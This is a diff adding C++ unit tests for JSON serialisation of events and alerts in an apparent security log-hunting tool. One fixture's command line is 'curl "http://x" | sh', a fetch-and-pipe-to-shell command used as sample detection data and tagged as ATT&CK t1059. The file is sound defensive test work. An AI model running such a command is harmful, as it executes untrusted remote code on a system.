@@ -1,0 +1,71 @@
+#include "core/serialize.h"
+
+#include <gtest/gtest.h>
+#include <rapidjson/document.h>
+
+namespace loghunt {
+namespace {
+
+Event ProcessEvent() {
+  Event e;
+  e.stream = Stream::kAuditd;
+  e.kind = EventKind::kProcessStart;
+  e.timestamp_ns = 1551485405594000000;
+  e.host = "host1";
+  e.process.pid = 42;
+  e.process.ppid = 1;
+  e.process.executable = "/usr/bin/curl";
+  e.process.command_line = "curl \"http://x\" | sh\n";
+  e.process.user = "alice";
+  e.position = {"auditd", 3, 1234};
+  e.extras.push_back({"auditd.key", "exec"});
+  return e;
+}
+
+TEST(SerializeEvent, WritesEcsNamesAndOmitsEmpty) {
+  std::string json = SerializeEvent(ProcessEvent());
+  rapidjson::Document doc;
+  ASSERT_FALSE(doc.Parse(json.c_str()).HasParseError()) << json;
+  EXPECT_STREQ(doc["event.type"].GetString(), "process_start");
+  EXPECT_STREQ(doc["event.module"].GetString(), "auditd");
+  EXPECT_STREQ(doc["@timestamp"].GetString(), "2019-03-02T00:10:05.594Z");
+  EXPECT_STREQ(doc["process.command_line"].GetString(), "curl \"http://x\" | sh\n");
+  EXPECT_EQ(doc["process.pid"].GetInt64(), 42);
+  EXPECT_EQ(doc["loghunt.position.partition"].GetInt(), 3);
+  EXPECT_STREQ(doc["extra"]["auditd.key"].GetString(), "exec");
+  EXPECT_FALSE(doc.HasMember("destination.ip"));
+  EXPECT_FALSE(doc.HasMember("source.port"));
+}
+
+TEST(SerializeAlert, EmbedsEvidenceAndHasDeterministicId) {
+  Event e = ProcessEvent();
+  Alert a = MakeAlert(e, {"r1", "Rule one", Severity::kHigh, {"attack.t1059"}}, "k");
+  Alert b = MakeAlert(e, {"r1", "Rule one", Severity::kHigh, {}}, "k");
+  Alert c = MakeAlert(e, {"r1", "Rule one", Severity::kHigh, {}}, "other-key");
+  EXPECT_EQ(a.id, b.id);
+  EXPECT_NE(a.id, c.id);
+  a.observables.push_back({"url", "http://x", "base64 > utf16le", true, ""});
+  std::string json = SerializeAlert(a);
+  rapidjson::Document doc;
+  ASSERT_FALSE(doc.Parse(json.c_str()).HasParseError()) << json;
+  EXPECT_STREQ(doc["id"].GetString(), a.id.c_str());
+  EXPECT_STREQ(doc["event.severity_name"].GetString(), "high");
+  EXPECT_STREQ(doc["tags"][0].GetString(), "attack.t1059");
+  EXPECT_STREQ(doc["evidence"]["process.executable"].GetString(), "/usr/bin/curl");
+  EXPECT_STREQ(doc["observables"][0]["decode_chain"].GetString(), "base64 > utf16le");
+  EXPECT_TRUE(doc["observables"][0]["defanged"].GetBool());
+  EXPECT_STREQ(doc["entities"][0]["Type"].GetString(), "Host");
+}
+
+TEST(SerializeEvent, EscapesControlCharacters) {
+  Event e;
+  e.message = std::string_view("a\0b\x01\"", 5);
+  std::string json = SerializeEvent(e);
+  rapidjson::Document doc;
+  ASSERT_FALSE(doc.Parse(json.c_str(), json.size()).HasParseError()) << json;
+  EXPECT_EQ(std::string(doc["message"].GetString(), doc["message"].GetStringLength()),
+            std::string("a\0b\x01\"", 5));
+}
+
+}  // namespace
+}  // namespace loghunt
